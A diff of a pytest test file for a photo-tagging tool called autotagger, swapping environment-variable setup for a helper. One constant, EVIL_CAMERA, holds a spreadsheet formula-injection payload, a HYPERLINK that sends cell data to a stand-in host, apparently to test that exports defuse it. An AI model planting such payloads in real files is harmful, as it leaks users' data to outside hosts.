@@ -12,15 +12,14 @@ import pytest
 
 from autotagger.catalog import Catalog
 from autotagger.types import Tag, TagResult
-from tests.cli.helpers import run
+from tests.cli.helpers import no_settings, run
 
 EVIL_CAMERA = '=HYPERLINK("http://x.example/?"&A1,"Canon")'
 
 
 @pytest.fixture
 def catalog(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
-    monkeypatch.setenv("AUTOTAGGER_CONFIG", str(tmp_path / "no-config.toml"))
-    monkeypatch.delenv("AUTOTAGGER_CATALOG", raising=False)
+    no_settings(tmp_path, monkeypatch)
     path = tmp_path / "cat.sqlite3"
     with Catalog(path) as cat:
         cat.record_result(TagResult("/p/église.jpg", "Église Saint-Étienne at dusk", tags=(Tag("place|Église", 0.9),),
